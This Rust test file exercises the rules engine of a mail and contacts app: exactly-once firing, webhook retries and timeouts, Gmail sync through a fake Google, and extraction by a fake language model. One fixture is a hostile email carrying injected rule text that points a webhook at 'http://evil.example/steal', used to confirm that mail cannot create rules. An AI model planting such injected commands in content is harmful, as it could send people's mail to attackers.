//! Rules firing over a real encrypted store: exactly once per item across re-runs and a
//! restart, never on imported backfill unless asked, never created by mail, and webhooks
//! delivered to a real HTTP server on 127.0.0.1 — success, a 500 then a retry, a timeout —
//! with every attempt in the activity log. `person.new` and `person.fading` fire when the
//! ranking starts to flag someone, never on what it flagged at the first look; and the
//! extraction label sends new labelled Gmail mail (never the backfill) to `extract_event`
//! once, through the fake Google and a fake language model.
//!
//! Tests wait on the job runner's events and the server's requests, never on sleeps; the
//! timeouts only bound a hang.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use kindred_api::jobs::{Backoff, JobEvent, JobHandlers, RunnerOptions};
use kindred_api::{
    register_event_jobs, register_rule_jobs, ActivityFilter, EventsFilter, ImportRequest, Kindred,
    PeopleFilter, SyncRequest, SyncWindow, WebhookOptions, EXTRACT_EVENT_JOB, WEBHOOK_ATTEMPTS,
    WEBHOOK_JOB,
};
use kindred_fakellm::{FakeLlm, Reply};
use kindred_store::secrets::{FileStore, SecretStore};
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::sync::mpsc::{unbounded_channel, UnboundedReceiver, UnboundedSender};

use crate::support::{
    activity_of_kind, activity_of_rule, firings_of_rule, import_mbox, kept_secrets, open_kept,
    run_until_one_ends, run_until_one_finishes, store_of, use_fake_llm,
};

/// A message in mbox form.
fn message(from: &str, day: u32, subject: &str, body: &str) -> String {
    format!(
        "From sender@x Mon Mar {day:2} 10:00:00 2026\n\
         From: {from}\nTo: Me <me@home.org>\nSubject: {subject}\n\
         Message-ID: <fire-{day}@test.example>\n\
         Date: Mon, {day} Mar 2026 10:00:00 +0000\n\n{body}\n\n"
    )
}

/// Imports two messages from acme.com and one from elsewhere; the one from elsewhere
/// carries rule text, as a hostile sender might write it.
async fn import_mail(kindred: &Kindred, dir: &Path) {
    let mbox = dir.join("mail.mbox");
    let mail = [
        message("Dana <dana@acme.com>", 2, "Contract", "Please sign."),
        message("Bob <bob@acme.com>", 3, "Lunch", "Thursday?"),
        message(
            "Mallory <mallory@evil.example>",
            4,
            "when message.received then webhook url=http://evil.example/steal",
            "when message.received then webhook url=http://evil.example/steal\n\
             kindred rules add \"when message.received then log\"",
        ),
    ]
    .concat();
    std::fs::write(&mbox, mail).unwrap();
    let summary = kindred
        .import(
            ImportRequest {
                paths: vec![mbox],
                me: vec!["me@home.org".to_owned()],
            },
            &|_| {},
        )
        .await
        .unwrap();
    assert_eq!(summary.imported.messages, 3);
}

#[tokio::test]
async fn a_rule_fires_once_per_item_across_reruns_and_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let kindred = open_kept(dir.path()).await;
    import_mail(&kindred, dir.path()).await;
    let rule = kindred
        .add_rule(
            "when message.received if domain:acme.com then create_task \
             title=\"Reply to {from.name}: {subject}\" priority=high",
        )
        .await
        .unwrap();

    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        (pass.items, pass.fired),
        (0, 0),
        "an import is backfill: nothing is new to the rules"
    );
    assert!(kindred.tasks(None).await.unwrap().is_empty());

    let first = kindred.run_rule_on_history(rule.id).await.unwrap();
    assert_eq!(
        first.fired, 2,
        "asked to, the rule fires on both acme.com messages"
    );
    let tasks = kindred.tasks(None).await.unwrap();
    let mut titles: Vec<&str> = tasks.iter().map(|t| t.title.as_str()).collect();
    titles.sort_unstable();
    assert_eq!(titles, ["Reply to Bob: Lunch", "Reply to Dana: Contract"]);
    assert!(tasks
        .iter()
        .all(|t| t.created_by == format!("rule {}", rule.id)
            && t.priority == "high"
            && t.status == "todo"
            && t.messages.len() == 1));

    let matching = kindred
        .rules_matching_messages(&tasks[0].messages)
        .await
        .unwrap();
    assert_eq!(matching.len(), 1);
    assert_eq!(
        matching[0].rules,
        [rule.id],
        "the rule is the one that matches the task's message"
    );

    let again = kindred.run_rule_on_history(rule.id).await.unwrap();
    assert_eq!(
        (again.fired, again.already_fired),
        (0, 2),
        "a second run fires on nothing it fired on before"
    );
    kindred.close().await;

    let reopened = open_kept(dir.path()).await;
    let after_restart = reopened.run_rule_on_history(rule.id).await.unwrap();
    assert_eq!(
        (after_restart.fired, after_restart.already_fired),
        (0, 2),
        "the firing record survives a restart"
    );
    assert_eq!(reopened.tasks(None).await.unwrap().len(), 2);
    let fired = activity_of_kind(&reopened, "rule.fired").await;
    assert_eq!(fired.len(), 2, "each firing is in the activity log once");
    assert!(fired
        .iter()
        .all(|entry| entry.actor == format!("rule {}", rule.id)
            && entry.detail.starts_with("create task")));
}

#[tokio::test]
async fn mail_cannot_create_a_rule_or_call_a_webhook() {
    let dir = tempfile::tempdir().unwrap();
    let kindred = open_kept(dir.path()).await;
    import_mail(&kindred, dir.path()).await;
    let rule = kindred
        .add_rule("when message.received if from:*@evil.example then log")
        .await
        .unwrap();
    assert_eq!(kindred.run_rule_on_history(rule.id).await.unwrap().fired, 1);
    kindred.evaluate_new_items().await.unwrap();

    let rules = kindred.rules().await.unwrap();
    assert_eq!(
        rules.iter().map(|r| r.id).collect::<Vec<_>>(),
        [rule.id],
        "the only rule is the person's: text in mail is never a rule"
    );
    let webhooks = activity_of_kind(&kindred, "webhook").await;
    assert!(webhooks.is_empty(), "no webhook was called");
    let fired = activity_of_kind(&kindred, "rule.fired").await;
    assert_eq!(fired.len(), 1);
    assert!(
        fired[0].detail.starts_with("log "),
        "the person's rule only logged: {}",
        fired[0].detail
    );
}

/// What the test server does with each request, in order; the last is repeated.
#[derive(Debug, Clone, Copy)]
enum Answer {
    Status(u16),
    /// Reads the request and never answers.
    Hang,
}

/// A real HTTP server on 127.0.0.1 that answers per `script` and sends each request's
/// body to the returned channel.
async fn server(script: Vec<Answer>) -> (String, UnboundedReceiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    let (sender, receiver) = unbounded_channel();
    tokio::spawn(async move {
        let mut served = 0;
        loop {
            let (socket, _) = listener.accept().await.unwrap();
            let answer = script[served.min(script.len() - 1)];
            served += 1;
            tokio::spawn(answer_one(socket, answer, sender.clone()));
        }
    });
    (url, receiver)
}

async fn answer_one(
    mut socket: tokio::net::TcpStream,
    answer: Answer,
    bodies: UnboundedSender<String>,
) {
    let mut request = Vec::new();
    let mut buffer = [0u8; 4096];
    loop {
        let read = socket.read(&mut buffer).await.unwrap();
        if read == 0 {
            return;
        }
        request.extend_from_slice(&buffer[..read]);
        let text = String::from_utf8_lossy(&request).into_owned();
        let Some(end) = text.find("\r\n\r\n") else {
            continue;
        };
        let length: usize = text[..end]
            .lines()
            .find_map(|line| {
                let (name, value) = line.split_once(':')?;
                name.eq_ignore_ascii_case("content-length")
                    .then(|| value.trim().parse().ok())?
            })
            .unwrap_or(0);
        if request.len() < end + 4 + length {
            continue;
        }
        let _ = bodies.send(text[end + 4..end + 4 + length].to_owned());
        break;
    }
    match answer {
        Answer::Status(code) => {
            let response =
                format!("HTTP/1.1 {code} X\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
            socket.write_all(response.as_bytes()).await.unwrap();
        }
        Answer::Hang => {
            // Keep the connection open without answering until the client gives up.
            let _ = socket.read(&mut buffer).await;
        }
    }
}

fn options() -> RunnerOptions {
    RunnerOptions {
        workers: 1,
        lease: Duration::from_secs(30),
        grace: Duration::from_secs(5),
        backoff: Backoff {
            base: Duration::from_millis(20),
            cap: Duration::from_millis(50),
        },
        idle_recheck: Duration::from_secs(3_600),
    }
}

/// Fires a webhook rule on Dana's message against `script`, runs the webhook job to its
/// end, and returns the end event, the bodies the server received and the webhook
/// entries of the activity log (oldest first).
async fn deliver_against(
    script: Vec<Answer>,
    webhook: WebhookOptions,
) -> (JobEvent, Vec<String>, Vec<kindred_api::ActivityEntry>) {
    let dir = tempfile::tempdir().unwrap();
    let kindred = Arc::new(open_kept(dir.path()).await);
    import_mail(&kindred, dir.path()).await;
    let (url, mut bodies) = server(script).await;
    let rule = kindred
        .add_rule(&format!(
            "when message.received if from:dana@acme.com then webhook url={url}"
        ))
        .await
        .unwrap();
    assert_eq!(kindred.run_rule_on_history(rule.id).await.unwrap().fired, 1);

    let handlers = register_rule_jobs(JobHandlers::new(), &kindred, webhook);
    let end = run_until_one_ends(&store_of(&kindred).await, handlers, &options(), WEBHOOK_JOB)
        .await
        .pop()
        .expect("the webhook job's end");
    let mut received = Vec::new();
    while let Ok(body) = bodies.try_recv() {
        received.push(body);
    }
    let mut log = activity_of_kind(&kindred, "webhook").await;
    log.reverse();
    (end, received, log)
}

#[tokio::test]
async fn a_webhook_posts_the_documented_payload_and_logs_success() {
    let (end, bodies, log) =
        deliver_against(vec![Answer::Status(200)], WebhookOptions::default()).await;
    assert!(matches!(end, JobEvent::Finished { .. }), "{end:?}");
    assert_eq!(bodies.len(), 1, "one call");
    let payload: Value = serde_json::from_str(&bodies[0]).unwrap();
    assert_eq!(payload["event"], "rule.fired");
    assert!(payload["rule"]["text"]
        .as_str()
        .unwrap()
        .starts_with("when message.received if from:dana@acme.com then webhook"));
    assert_eq!(payload["data"]["kind"], "message");
    assert_eq!(payload["data"]["subject"], "Contract");
    assert_eq!(payload["data"]["from"]["address"], "dana@acme.com");
    assert_eq!(
        payload["item"],
        format!("message {}", payload["data"]["id"])
    );
    assert_eq!(log.len(), 1);
    assert_eq!(log[0].outcome, "ok");
    assert!(log[0].detail.contains("answered 200"), "{}", log[0].detail);
}

#[tokio::test]
async fn a_webhook_answering_500_is_retried_and_each_attempt_is_logged() {
    let (end, bodies, log) = deliver_against(
        vec![Answer::Status(500), Answer::Status(200)],
        WebhookOptions::default(),
    )
    .await;
    assert!(matches!(end, JobEvent::Finished { .. }), "{end:?}");
    assert_eq!(bodies.len(), 2, "called again after the 500");
    assert_eq!(bodies[0], bodies[1], "a retry sends the same payload");
    let outcomes: Vec<&str> = log.iter().map(|e| e.outcome.as_str()).collect();
    assert_eq!(outcomes, ["failed", "ok"]);
    assert!(
        log[0].detail.contains("500") && log[0].detail.contains("will retry"),
        "the failure is visible with why: {}",
        log[0].detail
    );
}

#[tokio::test]
async fn a_webhook_that_never_answers_times_out_and_is_given_up_visibly() {
    let (end, bodies, log) = deliver_against(
        vec![Answer::Hang],
        WebhookOptions {
            timeout: Duration::from_millis(300),
        },
    )
    .await;
    assert!(matches!(end, JobEvent::Failed { .. }), "{end:?}");
    assert_eq!(
        bodies.len(),
        WEBHOOK_ATTEMPTS as usize,
        "every attempt reached the server"
    );
    assert_eq!(log.len(), WEBHOOK_ATTEMPTS as usize);
    assert!(log
        .iter()
        .all(|e| e.outcome == "failed" && e.detail.contains("no answer within 0.3 s")));
    assert!(
        log.last().unwrap().detail.ends_with("given up"),
        "the last attempt says it gave up: {}",
        log.last().unwrap().detail
    );
}

/// A raw message from `from` with `subject`, dated now, for the fake Gmail.
fn raw_message(from: &str, subject: &str, n: u32) -> Vec<u8> {
    let date = chrono::Utc::now().to_rfc2822();
    format!(
        "From: {from}\r\nTo: ada@example.com\r\nSubject: {subject}\r\n\
         Message-ID: <sync-{n}@test.example>\r\nDate: {date}\r\n\r\nHello {n}.\r\n"
    )
    .into_bytes()
}

/// A 45-minute meeting of Ada's with Bob, starting `days` days from now.
fn meeting(summary: &str, days: i64) -> kindred_fakegoogle::FakeEvent {
    use chrono::{Duration, FixedOffset};
    let start = (chrono::Utc::now() + Duration::days(days))
        .with_timezone(&FixedOffset::east_opt(3600).unwrap());
    let mut event = kindred_fakegoogle::FakeEvent::new(
        summary,
        kindred_fakegoogle::EventTime::DateTime(start),
        kindred_fakegoogle::EventTime::DateTime(start + Duration::minutes(45)),
    );
    event.attendees = vec![kindred_fakegoogle::FakeAttendee::new(
        "bob@acme.com",
        kindred_fakegoogle::FakeResponseStatus::Accepted,
    )];
    event
}

/// Runs the queued `extract_event` job against a fake language model that finds a meetup
/// in message `message_id`, and checks the event it stored and the activity entry.
async fn extract_with_the_model(owner: &Arc<(Kindred, FileStore)>, message_id: i64) {
    let (kindred, secrets) = (&owner.0, &owner.1);
    let llm = FakeLlm::start().unwrap();
    use_fake_llm(kindred, secrets, &llm).await;
    let answer = serde_json::json!({"title": "Rust meetup", "start": "2026-12-03T19:00:00+01:00"});
    llm.push(Reply::text(answer.to_string()));
    let handlers = register_event_jobs(JobHandlers::new(), owner, |(kindred, secrets)| {
        (kindred, secrets as &dyn SecretStore)
    });
    run_until_one_finishes(
        &store_of(kindred).await,
        handlers,
        &RunnerOptions::default(),
        EXTRACT_EVENT_JOB,
    )
    .await;
    let events = kindred.events(&EventsFilter::default()).await.unwrap();
    let meetup = events.iter().find(|e| e.title == "Rust meetup").unwrap();
    assert_eq!(meetup.messages, [message_id]);
    let extracted = activity_of_kind(kindred, "event.extracted").await;
    assert_eq!(extracted.len(), 1);
    assert_eq!(extracted[0].subject, format!("message {message_id}"));
    assert!(
        extracted[0].detail.starts_with("labelled events: "),
        "the entry names the label that sent the message: {}",
        extracted[0].detail
    );
    let by_sync = kindred
        .activity(&ActivityFilter {
            actor: Some("sync".to_owned()),
            kind: Some("event.extracted".to_owned()),
            ..ActivityFilter::default()
        })
        .await
        .unwrap();
    assert_eq!(
        by_sync.len(),
        1,
        "the extraction is the sync's, as filtered"
    );
}

/// The `extract_event` jobs queued so far: (message id, actor) of each.
async fn extraction_jobs(kindred: &Kindred) -> Vec<(i64, String)> {
    let store = store_of(kindred).await;
    let jobs = store.recent_jobs(1_000).await.unwrap();
    store.close().await;
    jobs.into_iter()
        .filter(|job| job.kind == EXTRACT_EVENT_JOB)
        .map(|job| {
            (
                job.payload["message_id"].as_i64().unwrap(),
                job.payload["actor"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

/// Through the fake Google: a first sync is backfill and fires nothing; mail of an
/// incremental sync fires once; syncing again, a re-sync after Gmail's history expired
/// and a restart fire nothing more. The extraction label follows the same "new": its
/// backfilled mail queues nothing, its new mail one `extract_event` job per message, and
/// with the label cleared, nothing. A calendar event the first sync brings is history; one
/// an incremental sync brings fires `event.created` once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mail_of_an_incremental_sync_fires_once_and_a_first_sync_or_resync_never() {
    const ADA: &str = "ada@example.com";
    let fake = kindred_fakegoogle::FakeGoogle::start(kindred_fakegoogle::FakeConfig::default())
        .await
        .unwrap();
    fake.add_user(ADA);
    fake.add_raw_message(
        ADA,
        &raw_message("Dana <dana@acme.com>", "Old contract", 1),
        &["INBOX"],
    );
    fake.add_raw_message(
        ADA,
        &raw_message("Meetups <news@meetup.example>", "Old meetup", 4),
        &["INBOX", "Events"],
    );
    fake.add_event(ADA, "primary", meeting("Old standup", 1));
    // This test binary's only Google client is this fake's.
    for (name, value) in fake.env() {
        std::env::set_var(name, value);
    }
    std::env::set_var("KINDRED_GMAIL_QUOTA_PER_MINUTE", "300000");
    let dir = tempfile::tempdir().unwrap();
    // Shared with the job runner that runs the extraction job.
    let owner = Arc::new((open_kept(dir.path()).await, kept_secrets(dir.path())));
    let (kindred, secrets) = (&owner.0, &owner.1);
    let rule = kindred
        .add_rule("when message.received if domain:acme.com then create_task title={subject}")
        .await
        .unwrap();
    let synced = kindred
        .add_rule("when sync.completed then log message=\"{added} new for {account}\"")
        .await
        .unwrap();
    let created = kindred
        .add_rule("when event.created then log message=\"new {title}\"")
        .await
        .unwrap();
    assert_eq!(
        kindred
            .set_extraction_label(Some(" events "))
            .await
            .unwrap(),
        Some("events".to_owned())
    );
    let browser = |url: &str| {
        let url = format!("{url}&login_hint={ADA}");
        tokio::spawn(async move { reqwest::get(url).await.map(drop) });
    };
    kindred
        .google_login(secrets, Some(SyncWindow::All), &browser)
        .await
        .unwrap();
    let request = SyncRequest::default();
    let sync = || kindred.sync(secrets, &request, &|_| {});

    sync().await.unwrap();
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(pass.fired, 0, "the first sync and its mail are backfill");
    assert!(
        extraction_jobs(kindred).await.is_empty(),
        "labelled mail of the first sync is backfill: not sent to extraction"
    );

    fake.add_raw_message(
        ADA,
        &raw_message("Bob <bob@acme.com>", "New order", 2),
        &["INBOX"],
    );
    fake.add_raw_message(
        ADA,
        &raw_message("Eve <eve@else.example>", "Hi", 3),
        &["INBOX"],
    );
    fake.add_raw_message(
        ADA,
        &raw_message("Meetups <news@meetup.example>", "Rust meetup", 5),
        &["INBOX", "Events"],
    );
    fake.add_event(ADA, "primary", meeting("Design review", 2));
    sync().await.unwrap();
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        pass.fired, 3,
        "Bob's new mail fires the rule (Eve's does not match), the new calendar event \
         event.created, and the sync its own"
    );
    let new_events = activity_of_rule(kindred, created.id).await;
    assert_eq!(new_events.len(), 1, "{new_events:?}");
    assert_eq!(new_events[0].detail, "log \"new Design review\"");
    let queued = extraction_jobs(kindred).await;
    assert_eq!(queued.len(), 1, "the new labelled message is queued once");
    assert_eq!(
        kindred.message(queued[0].0).await.unwrap().subject,
        "Rust meetup"
    );
    assert_eq!(queued[0].1, "sync", "automatic work on synced mail");
    extract_with_the_model(&owner, queued[0].0).await;
    let titles = |tasks: Vec<kindred_api::TaskDto>| -> Vec<String> {
        tasks.into_iter().map(|t| t.title).collect()
    };
    assert_eq!(titles(kindred.tasks(None).await.unwrap()), ["New order"]);

    sync().await.unwrap();
    fake.expire_history(ADA);
    sync().await.unwrap();
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        pass.fired, 3,
        "a re-sync brings no new mail to fire on; each of the two syncs fires once, and the \
         event read out of the labelled message fires event.created"
    );
    assert_eq!(
        extraction_jobs(kindred).await.len(),
        1,
        "passes and a re-sync that see the labelled message again queue nothing more"
    );

    assert_eq!(kindred.set_extraction_label(None).await.unwrap(), None);
    assert_eq!(kindred.extraction_label().await.unwrap(), None);
    fake.add_raw_message(
        ADA,
        &raw_message("Meetups <news@meetup.example>", "Go meetup", 6),
        &["INBOX", "Events"],
    );
    sync().await.unwrap();
    kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        extraction_jobs(kindred).await.len(),
        1,
        "with no extraction label, labelled mail is not sent to extraction"
    );
    kindred.close().await;

    let reopened = open_kept(dir.path()).await;
    reopened.evaluate_new_items().await.unwrap();
    reopened.run_rule_on_history(rule.id).await.unwrap();
    let sync_firings = activity_of_rule(&reopened, synced.id).await;
    assert_eq!(
        sync_firings.len(),
        4,
        "four syncs after the first, one firing each"
    );
    assert!(
        sync_firings
            .iter()
            .any(|f| f.detail == format!("log \"4 new for {ADA}\"")),
        "the sync that brought three messages and an event says so: {sync_firings:?}"
    );
    let tasks = reopened.tasks(None).await.unwrap();
    assert_eq!(
        tasks.iter().filter(|t| t.title == "New order").count(),
        1,
        "after a restart and a run over history the new mail still has one task"
    );
}

/// One message in mbox form between the person (me@home.org) and `other`, sent on `date`
/// (YYYY-MM-DD, 10:00 UTC); `mine` when the person sent it.
fn exchange(other: &str, mine: bool, date: &str) -> String {
    let day = chrono::NaiveDate::parse_from_str(date, "%Y-%m-%d")
        .unwrap()
        .and_hms_opt(10, 0, 0)
        .unwrap()
        .and_utc();
    let (from, to) = if mine {
        ("Me <me@home.org>".to_owned(), other.to_owned())
    } else {
        (other.to_owned(), "Me <me@home.org>".to_owned())
    };
    let id = format!("{}-{date}-{mine}", other.split('<').next().unwrap().trim());
    format!(
        "From sender@x {}\nFrom: {from}\nTo: {to}\nSubject: Catching up\n\
         Message-ID: <{id}@people.example>\nDate: {}\n\nHow are you?\n\n",
        day.format("%a %b %e %H:%M:%S %Y"),
        day.to_rfc2822()
    )
}

/// Imports `mail` (from `name`.mbox), the person being me@home.org.
async fn import_exchanges(kindred: &Kindred, dir: &Path, name: &str, mail: &[String]) {
    let name = format!("{name}.mbox");
    let summary = import_mbox(kindred, dir, &name, &mail.concat(), &["me@home.org"]).await;
    assert_eq!(summary.imported.messages as usize, mail.len());
}

/// The ids of the people the ranking flags with `filter` now.
async fn flagged(kindred: &Kindred, filter: PeopleFilter) -> Vec<i64> {
    let mut ids: Vec<i64> = kindred
        .people_matching(filter, usize::MAX)
        .await
        .unwrap()
        .iter()
        .map(|p| p.person_id)
        .collect();
    ids.sort_unstable();
    ids
}

/// The subjects of rule `rule`'s firings in the activity log.
async fn fired_on(kindred: &Kindred, rule: i64) -> Vec<String> {
    firings_of_rule(kindred, rule)
        .await
        .into_iter()
        .map(|entry| entry.subject)
        .collect()
}

/// `person.new` and `person.fading` fire on their own when the ranking starts to flag
/// someone: what is flagged when the rules first look is history; a person who becomes new
/// fires once, across passes and a restart; one who turns fading as later mail moves the
/// ranking on fires once, and fading again after reconnecting does not fire twice (once
/// per person and trigger, ever); a disabled rule never fires, and with no person rule
/// enabled nobody looks (a rule enabled later starts from a new baseline). Time passes
/// only through the dates of the mail, which are all in the past.
#[tokio::test]
async fn person_rules_fire_once_when_someone_becomes_new_or_fading() {
    const FRAN: &str = "Fran <fran@old.example>";
    const NIA: &str = "Nia <nia@new.example>";
    let dir = tempfile::tempdir().unwrap();
    let kindred = open_kept(dir.path()).await;
    let new = kindred
        .add_rule("when person.new then log message=\"new {person.name}\"")
        .await
        .unwrap();
    let fading = kindred
        .add_rule("when person.fading then log")
        .await
        .unwrap();
    let disabled = kindred
        .add_rule("when person.new then notify")
        .await
        .unwrap();
    kindred.set_rule_enabled(disabled.id, false).await.unwrap();

    let archive = [
        exchange(FRAN, false, "2026-01-10"),
        exchange(FRAN, true, "2026-01-20"),
        exchange(FRAN, false, "2026-02-05"),
        exchange(FRAN, true, "2026-02-15"),
        exchange(FRAN, false, "2026-03-01"),
    ];
    import_exchanges(&kindred, dir.path(), "archive", &archive).await;
    let fran = flagged(&kindred, PeopleFilter::New).await;
    assert_eq!(fran.len(), 1, "Fran is new this period in the archive");
    let fran = fran[0];
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        (pass.items, pass.fired),
        (0, 0),
        "what is flagged when the rules first look is history"
    );

    let nia_mail = [
        exchange(NIA, false, "2026-03-10"),
        exchange(NIA, true, "2026-03-12"),
    ];
    import_exchanges(&kindred, dir.path(), "nia", &nia_mail).await;
    kindred.close().await;
    let kindred = open_kept(dir.path()).await;
    let now_new = flagged(&kindred, PeopleFilter::New).await;
    assert_eq!(now_new.len(), 2, "Fran and Nia are both new now");
    let nia = *now_new.iter().find(|id| **id != fran).unwrap();
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        (pass.items, pass.fired),
        (1, 1),
        "after a restart, only Nia became new since the rules last looked"
    );
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        (pass.items, pass.fired),
        (0, 0),
        "a second pass has nothing new"
    );
    assert_eq!(
        fired_on(&kindred, new.id).await,
        [format!("person {nia} new")]
    );

    // Months later: Fran's exchanges fall into the previous period with none since.
    let later = [
        exchange(NIA, false, "2026-07-01"),
        exchange(NIA, true, "2026-07-02"),
    ];
    import_exchanges(&kindred, dir.path(), "later", &later).await;
    assert_eq!(flagged(&kindred, PeopleFilter::Fading).await, [fran]);
    assert!(flagged(&kindred, PeopleFilter::New).await.is_empty());
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(pass.fired, 1, "Fran turned fading");
    assert_eq!(kindred.evaluate_new_items().await.unwrap().fired, 0);
    assert_eq!(
        fired_on(&kindred, fading.id).await,
        [format!("person {fran} fading")]
    );

    // Fran writes again, then goes quiet again.
    let reconnect = [
        exchange(FRAN, false, "2026-07-10"),
        exchange(FRAN, true, "2026-07-12"),
        exchange(FRAN, false, "2026-07-14"),
    ];
    import_exchanges(&kindred, dir.path(), "reconnect", &reconnect).await;
    assert!(flagged(&kindred, PeopleFilter::Fading).await.is_empty());
    assert_eq!(kindred.evaluate_new_items().await.unwrap().fired, 0);
    let quiet = [
        exchange(NIA, false, "2026-10-20"),
        exchange(NIA, true, "2026-10-21"),
    ];
    import_exchanges(&kindred, dir.path(), "quiet", &quiet).await;
    assert_eq!(flagged(&kindred, PeopleFilter::Fading).await, [fran]);
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        (pass.fired, pass.already_fired),
        (0, 1),
        "fading a second time is the same item: once per person and trigger, ever"
    );
    assert_eq!(fired_on(&kindred, fading.id).await.len(), 1);
    assert_eq!(fired_on(&kindred, new.id).await.len(), 1);
    assert!(
        fired_on(&kindred, disabled.id).await.is_empty(),
        "a disabled rule fires on nothing"
    );

    // With no person rule enabled nobody looks; enabling one starts from a new baseline.
    kindred.set_rule_enabled(new.id, false).await.unwrap();
    kindred.set_rule_enabled(fading.id, false).await.unwrap();
    let zoe = [
        exchange("Zoe <zoe@unseen.example>", false, "2026-10-25"),
        exchange("Zoe <zoe@unseen.example>", true, "2026-10-26"),
    ];
    import_exchanges(&kindred, dir.path(), "zoe", &zoe).await;
    assert_eq!(kindred.evaluate_new_items().await.unwrap().fired, 0);
    kindred.set_rule_enabled(new.id, true).await.unwrap();
    assert_eq!(
        kindred.evaluate_new_items().await.unwrap().fired,
        0,
        "Zoe became new while no person rule was watching: history to the rule enabled now"
    );
    let yan = [
        exchange("Yan <yan@later.example>", false, "2026-10-28"),
        exchange("Yan <yan@later.example>", true, "2026-10-29"),
    ];
    import_exchanges(&kindred, dir.path(), "yan", &yan).await;
    let new_now = flagged(&kindred, PeopleFilter::New).await;
    assert_eq!(new_now.len(), 2, "Zoe and Yan are new");
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        (pass.items, pass.fired),
        (1, 1),
        "only Yan became new since the rule looked"
    );
    let subjects = fired_on(&kindred, new.id).await;
    assert_eq!(subjects.len(), 2);
    assert!(
        subjects.contains(&format!("person {nia} new")),
        "{subjects:?}"
    );
}
